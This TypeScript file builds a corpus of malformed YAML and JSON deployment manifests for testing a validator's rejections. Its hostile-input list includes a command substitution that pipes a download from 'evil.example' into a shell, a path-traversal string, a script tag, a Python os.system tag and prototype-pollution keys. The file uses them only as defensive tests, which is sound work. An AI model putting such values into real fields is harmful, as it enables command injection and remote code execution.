import { parse, stringify } from 'yaml';
import { fixture } from './helpers.ts';

/** One malformed manifest: the bytes, a file name, and what a good rejection must contain. */
export type CorpusCase = {
  name: string;
  file: string;
  input: string | Uint8Array;
  /** The first problem carries a line and column. */
  positioned: boolean;
  /** Some problem has exactly this path. */
  path?: string;
};

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

function leaves(value: Json, path: (string | number)[] = []): { path: (string | number)[]; value: Json }[] {
  if (Array.isArray(value)) return value.flatMap((item, i) => leaves(item, [...path, i]));
  if (value !== null && typeof value === 'object') {
    const entries = Object.entries(value);
    return [{ path, value }, ...entries.flatMap(([k, v]) => leaves(v, [...path, k]))].filter(
      (l) => l.path.length > 0,
    );
  }
  return [{ path, value }];
}

function setIn(root: Json, path: (string | number)[], value: Json | undefined): Json {
  const copy = structuredClone(root);
  let node = copy as Record<string | number, Json>;
  for (const segment of path.slice(0, -1)) node = node[segment] as Record<string | number, Json>;
  const last = path.at(-1)!;
  if (value === undefined) {
    if (Array.isArray(node)) node.splice(last as number, 1);
    else delete node[last];
  } else Object.defineProperty(node, last, { value, enumerable: true, writable: true, configurable: true });
  return copy;
}

function formatPath(path: (string | number)[]): string {
  return path.map((s, i) => (typeof s === 'number' ? `[${s}]` : i === 0 ? s : `.${s}`)).join('');
}

function wrongValues(value: Json): Json[] {
  if (typeof value === 'number') return ['text', true, [], { a: 1 }, null];
  if (typeof value === 'string') return [42, false, ['x'], { a: 1 }, null];
  if (typeof value === 'boolean') return ['yes', 1, [true]];
  if (Array.isArray(value)) return ['x', 7, { a: 1 }];
  return ['x', 7, [1]];
}

/** Serialises alternately as YAML and JSON so both position mappers are exercised. */
function encode(value: Json, index: number): { file: string; input: string } {
  return index % 2 === 0
    ? { file: `case-${index}.yaml`, input: stringify(value) }
    : { file: `case-${index}.json`, input: JSON.stringify(value, null, 2) };
}

/** Builds the corpus: several hundred malformed manifests of every kind the brief names. */
export function buildCorpus(): CorpusCase[] {
  const full = parse(fixture('valid/full.yaml').toString('utf8')) as Json;
  const cases: CorpusCase[] = [];
  let n = 0;
  const add = (name: string, value: Json, path?: string) => {
    cases.push({ name, ...encode(value, n++), positioned: true, ...(path !== undefined ? { path } : {}) });
  };

  // Wrong types at every field of a full manifest.
  for (const leaf of leaves(full)) {
    if (leaf.path[0] === '$schema') continue;
    for (const wrong of wrongValues(leaf.value)) {
      add(
        `wrong type at ${formatPath(leaf.path)}: ${JSON.stringify(wrong)}`,
        setIn(full, leaf.path, wrong),
        formatPath(leaf.path),
      );
    }
  }

  // Required fields missing.
  for (const path of [
    ['version'],
    ['project'],
    ['app', 'workers', 0, 'name'],
    ['app', 'workers', 1, 'command'],
    ['app', 'web', 'autoscaling', 'min'],
    ['app', 'web', 'autoscaling', 'max'],
    ['database', 'serverless', 'minCapacity'],
    ['database', 'serverless', 'maxCapacity'],
  ] as (string | number)[][]) {
    add(`missing ${formatPath(path)}`, setIn(full, path, undefined), formatPath(path));
  }

  // Values out of range.
  const numbers: [(string | number)[], number][] = [
    [['network', 'availabilityZones'], 1],
    [['network', 'availabilityZones'], 4],
    [['database', 'readers'], -1],
    [['database', 'readers'], 3],
    [['database', 'backupRetentionDays'], 0],
    [['database', 'backupRetentionDays'], 36],
    [['database', 'backupRetentionDays'], 1e308],
    [['database', 'serverless', 'maxCapacity'], 1e20],
    [['database', 'serverless', 'minCapacity'], 0.3],
    [['app', 'web', 'cpu'], 300],
    [['app', 'web', 'cpu'], 2.5],
    [['app', 'web', 'memory'], 10],
    [['app', 'web', 'desiredCount'], 0],
    [['app', 'web', 'desiredCount'], 100000],
    [['app', 'web', 'port'], 70000],
    [['app', 'web', 'port'], 0],
    [['app', 'web', 'autoscaling', 'cpuTarget'], 99],
    [['app', 'logRetentionDays'], 4],
    [['bastion', 'maxTtlMinutes'], 1],
    [['bastion', 'maxTtlMinutes'], 1e9],
    [['version'], 2],
    [['version'], -1e300],
  ];
  for (const [path, value] of numbers)
    add(`${formatPath(path)} = ${value}`, setIn(full, path, value), formatPath(path));

  // Hostile strings in every free-form name.
  const hostile = [
    '',
    '../../etc/passwd',
    '$(curl evil.example | sh)',
    '<script>alert(1)</script>',
    'аcme', // Cyrillic а
    'acme\u202Egpj',
    'acme\u0000',
    '💥',
    'x'.repeat(5000),
    ' acme',
    'ACME',
    'a;b',
  ];
  const names: (string | number)[][] = [
    ['project'],
    ['environment'],
    ['app', 'repository'],
    ['app', 'domain'],
    ['app', 'deployTag'],
    ['app', 'healthCheckPath'],
    ['database', 'databaseName'],
    ['app', 'workers', 0, 'name'],
    ['app', 'certificateArn'],
    ['app', 'secrets', 'APP_KEY'],
    ['app', 'alarmTopicArn'],
    ['network', 'cidr'],
    ['bastion', 'allowedCidrs', 0],
    ['database', 'engineVersion'],
  ];
  for (const path of names) {
    for (const value of hostile) {
      // Path-traversal text is a valid health-check path.
      if (path.join('.') === 'app.healthCheckPath' && value === '../../etc/passwd') continue;
      // Docker tags and database names may be upper-case.
      if (['app.deployTag', 'database.databaseName'].includes(path.join('.')) && value === 'ACME') continue;
      // A raw bidirectional control is refused by the character scan, before paths are known.
      const pathKnown = !value.includes('\u202E');
      cases.push({
        name: `hostile ${formatPath(path)} = ${JSON.stringify(value.slice(0, 30))}`,
        ...encode(setIn(full, path, value), n++),
        positioned: true,
        ...(pathKnown ? { path: formatPath(path) } : {}),
      });
    }
  }

  // Prototype-pollution and odd keys at every level.
  for (const key of ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty']) {
    for (const parent of [
      [],
      ['network'],
      ['database'],
      ['app'],
      ['app', 'web'],
      ['bastion'],
    ] as string[][]) {
      const yaml = `${stringify(setIn(full, [...parent, key], { polluted: true }))}`;
      cases.push({
        name: `key ${key} in ${parent.join('.') || 'top level'}`,
        file: `proto-${n++}.yaml`,
        input: yaml,
        positioned: true,
        path: formatPath([...parent, key]),
      });
    }
    const json = `{"version": 1, "project": "acme", "${key}": {"polluted": true}}`;
    cases.push({
      name: `JSON key ${key}`,
      file: `proto-${n++}.json`,
      input: json,
      positioned: true,
      path: key,
    });
  }
  const envKeys = ['__proto__', 'constructor', 'lower_case', '1ABC', 'A-B', 'A B', ''];
  for (const key of envKeys) {
    cases.push({
      name: `environment key ${JSON.stringify(key)}`,
      file: `env-${n++}.json`,
      input: JSON.stringify({ version: 1, project: 'acme', app: { environment: { [key]: 'x' } } }),
      positioned: true,
    });
  }

  // Encodings.
  const text = fixture('valid/full.yaml').toString('utf8');
  cases.push({
    name: 'UTF-16LE with BOM',
    file: 'u16le.yaml',
    input: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]),
    positioned: true,
  });
  cases.push({
    name: 'UTF-16BE with BOM',
    file: 'u16be.yaml',
    input: Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(text, 'utf16le').swap16()]),
    positioned: true,
  });
  cases.push({
    name: 'UTF-16LE without BOM',
    file: 'u16.yaml',
    input: Buffer.from(text, 'utf16le'),
    positioned: true,
  });
  cases.push({
    name: 'Latin-1',
    file: 'latin1.yaml',
    input: Buffer.from('version: 1\nproject: caf\xe9\n', 'latin1'),
    positioned: true,
  });
  cases.push({
    name: 'truncated UTF-8',
    file: 't.yaml',
    input: Buffer.from([...Buffer.from('version: 1\nproject: caf'), 0xc3]),
    positioned: true,
  });
  for (let seed = 1; seed <= 10; seed++) {
    const bytes = new Uint8Array(512);
    let x = seed * 2654435761;
    for (let i = 0; i < bytes.length; i++) {
      x = (x * 1103515245 + 12345) >>> 0;
      bytes[i] = x >>> 24;
    }
    cases.push({
      name: `random bytes #${seed}`,
      file: `random-${seed}.yaml`,
      input: bytes,
      positioned: true,
    });
  }

  // Size.
  cases.push({
    name: '1 MiB + 1 byte of bytes',
    file: 'big.yaml',
    input: new Uint8Array(1024 * 1024 + 1).fill(0x20),
    positioned: false,
  });
  cases.push({
    name: '2 MiB string',
    file: 'big.yaml',
    input: `version: 1\nproject: acme\n#${'x'.repeat(2 * 1024 * 1024)}`,
    positioned: false,
  });
  cases.push({
    name: '1 MiB of environment values',
    file: 'big.json',
    input: JSON.stringify({
      version: 1,
      project: 'acme',
      app: {
        environment: Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`V${i}`, 'x'.repeat(4000)])),
      },
    }),
    positioned: false,
  });

  // Alias bombs of several shapes.
  for (const width of [5, 9, 20]) {
    const rows = ['version: 1', 'project: acme', `x0: &x0 [${Array(width).fill('"lol"').join(', ')}]`];
    for (let level = 1; level < 8; level++)
      rows.push(
        `x${level}: &x${level} [${Array(width)
          .fill(`*x${level - 1}`)
          .join(', ')}]`,
      );
    cases.push({
      name: `alias bomb width ${width}`,
      file: `bomb-${width}.yaml`,
      input: rows.join('\n'),
      positioned: true,
    });
  }
  cases.push({
    name: 'alias bomb inside app',
    file: 'bomb-app.yaml',
    input: `version: 1\nproject: acme\napp:\n  environment: &e { A: "1" }\n  release: &r [${Array(200).fill('a').join(', ')}]\n  workers: [${Array(150).fill('{ name: w, command: *r }').join(', ')}]\n`,
    positioned: true,
  });
  cases.push({
    name: 'undefined alias',
    file: 'alias.yaml',
    input: 'version: 1\nproject: *nope\n',
    positioned: true,
  });

  // Nesting.
  const brackets: [string, string][] = [
    ['[', ']'],
    ['{a: ', '}'],
    ['{"a": ', '}'],
  ];
  for (const [open, close] of brackets) {
    for (const depth of [33, 1000, 100_000]) {
      cases.push({
        name: `flow nesting ${open.trim()} × ${depth}`,
        file: 'deep.yaml',
        input: `version: 1\nproject: acme\napp: ${open.repeat(depth)}1${close.repeat(depth)}\n`,
        positioned: true,
      });
    }
  }
  for (const depth of [33, 200, 1000]) {
    const lines = ['version: 1', 'project: acme'];
    for (let d = 0; d < depth; d++) lines.push(`${' '.repeat(d)}k:`);
    cases.push({
      name: `block nesting × ${depth}`,
      file: 'deep.yaml',
      input: lines.join('\n'),
      positioned: true,
    });
    cases.push({
      name: `sequence nesting × ${depth}`,
      file: 'deep.yaml',
      input: `version: 1\nproject: acme\napp:\n${Array.from({ length: depth }, (_, d) => `${' '.repeat(d * 2 + 2)}-`).join('\n')} x\n`,
      positioned: true,
    });
  }

  // Syntax and structure.
  const broken: [string, string][] = [
    ['unclosed quote', 'version: 1\nproject: "acme\n'],
    ['unclosed flow map', 'version: 1\nproject: acme\nnetwork: { cidr: 10.0.0.0/16\n'],
    ['tab indentation', 'version: 1\nproject: acme\nnetwork:\n\tcidr: 10.0.0.0/16\n'],
    ['bad indentation', 'version: 1\n  project: acme\n'],
    ['duplicate key', 'version: 1\nproject: acme\nproject: evil\n'],
    ['duplicate nested key', 'version: 1\nproject: acme\napp:\n  web: {}\n  web: {}\n'],
    ['two documents', 'version: 1\nproject: acme\n---\nversion: 1\n'],
    ['three documents', '---\nversion: 1\n---\nproject: acme\n---\n'],
    ['a list at the top', '- version: 1\n- project: acme\n'],
    ['a string at the top', 'hello\n'],
    ['a number at the top', '12345\n'],
    ['null at the top', 'null\n'],
    ['empty file', ''],
    ['only comments', '# a manifest\n# nothing else\n'],
    ['python tag', 'version: 1\nproject: !!python/object:os.system acme\n'],
    ['custom tag', 'version: 1\nproject: !Sub acme\n'],
    ['binary tag', 'version: 1\nproject: !!binary aGVsbG8=\n'],
    [
      'YAML 1.1 directive with merge key',
      '%YAML 1.1\n---\nbase: &b { cidr: 10.0.0.0/16 }\nversion: 1\nproject: acme\nnetwork:\n  <<: *b\n',
    ],
    ['merge key', 'version: 1\nproject: acme\nnetwork:\n  <<: { cidr: 10.0.0.0/16 }\n'],
    ['complex key', 'version: 1\nproject: acme\n? [a, b]\n: 1\n'],
    ['map as key in flow', 'version: 1\nproject: acme\n{a: 1}: 2\n'],
    ['JSON trailing comma', '{"version": 1, "project": "acme",}'],
    ['JSON comment', '{"version": 1, // one\n "project": "acme"}'],
    ['JSON single quotes', "{'version': 1, 'project': 'acme'}"],
    ['JSON unterminated', '{"version": 1, "project": "acme"'],
    ['JSON NaN', '{"version": NaN, "project": "acme"}'],
    ['JSON duplicate key', '{"version": 1, "project": "a1", "project": "b2"}'],
    ['JSON array top', '[{"version": 1}]'],
    ['JSON huge number', '{"version": 1e999, "project": "acme"}'],
    ['JSON huge integer', `{"version": 1, "project": "acme", "database": {"readers": ${'9'.repeat(400)}}}`],
    ['control character', 'version: 1\nproject: ac\u0007me\n'],
    ['DEL character', 'version: 1\nproject: acme\u007f\n'],
    ['C1 control', 'version: 1\nproject: acme\u0090\n'],
    ['escaped NUL', 'version: 1\nproject: "acme\\0"\n'],
    ['escaped bell in a command', 'version: 1\nproject: acme\napp: { release: ["php\\a"] }\n'],
    ['bidi override in a comment', 'version: 1\nproject: acme # \u202E\n'],
    ['noncharacter', 'version: 1\nproject: acme\uFFFF\n'],
    ['anchors only', '&a\n'],
    ['null values everywhere', 'version:\nproject:\nnetwork:\ndatabase:\napp:\nbastion:\n'],
    ['version as text', 'version: "1"\nproject: acme\n'],
    ['version as float', 'version: 1.0.0\nproject: acme\n'],
    ['scheduler yes', 'version: 1\nproject: acme\napp: { scheduler: yes }\n'],
    ['octal-looking cpu', 'version: 1\nproject: acme\napp: { web: { cpu: 0o777 } }\n'],
    ['hex number as port', 'version: 1\nproject: acme\napp: { web: { port: 0x1FFFFF } }\n'],
    ['infinity', 'version: 1\nproject: acme\ndatabase: { readers: .inf }\n'],
    ['not a number', 'version: 1\nproject: acme\ndatabase: { readers: .nan }\n'],
    ['negative infinity', 'version: 1\nproject: acme\ndatabase: { backupRetentionDays: -.inf }\n'],
    [
      'secret value in secrets',
      'version: 1\nproject: acme\napp: { secrets: { APP_KEY: "base64:abcdef" } }\n',
    ],
    [
      'AWS key in environment',
      'version: 1\nproject: acme\napp: { environment: { AWS_SECRET_ACCESS_KEY: x } }\n',
    ],
    [
      'bastion open to the world',
      'version: 1\nproject: acme\nbastion: { access: ssh, allowedCidrs: [0.0.0.0/0] }\n',
    ],
    ['public VPC range', 'version: 1\nproject: acme\nnetwork: { cidr: 52.0.0.0/16 }\n'],
    ['sequence of maps as app', 'version: 1\nproject: acme\napp: [ { web: {} } ]\n'],
    ['workers as a map', 'version: 1\nproject: acme\napp: { workers: { default: { command: [php] } } }\n'],
    [
      'more workers than a template holds (500 resources)',
      `version: 1\nproject: acme\napp:\n  allowPlainHttp: true\n  workers:\n${Array.from({ length: 130 }, (_, i) => `    - { name: w${i}, command: [php] }`).join('\n')}\n`,
    ],
    [
      'too many bastion ranges',
      `version: 1\nproject: acme\nbastion: { allowedCidrs: [${Array.from({ length: 21 }, (_, i) => `10.${i}.0.0/16`).join(', ')}] }\n`,
    ],
    [
      'command with 65 arguments',
      `version: 1\nproject: acme\napp: { release: [${Array(65).fill('a').join(', ')}] }\n`,
    ],
    ['empty command', 'version: 1\nproject: acme\napp: { release: [] }\n'],
    ['a megabyte of closing brackets', ']'.repeat(1_000_000)],
    ['a megabyte of quotes', '"'.repeat(1_000_001)],
    ['a megabyte of anchors', `${'&a '.repeat(300_000)}x`],
    ['a megabyte of tab-indented items', `a:\n${'\t- x\n'.repeat(200_000)}`],
    ['a megabyte of document markers', '---\n'.repeat(250_000)],
    ['a megabyte of explicit keys', '? \n'.repeat(250_000)],
    ['compact sequences 5000 deep', `${'- '.repeat(5000)}x`],
    ['many unknown keys', Array.from({ length: 40_000 }, (_, i) => `k${i}: ${i}`).join('\n')],
    ['many duplicate keys', `version: 1\nproject: acme\n${'project: acme\n'.repeat(40_000)}`],
    ['many keys on one line', `{${Array.from({ length: 40_000 }, (_, i) => `k${i}: ${i}`).join(', ')}}`],
  ];
  for (const [name, input] of broken) {
    const file = /^JSON/.test(name) ? 'broken.json' : 'broken.yaml';
    cases.push({ name, file, input, positioned: true });
  }
  return cases;
}
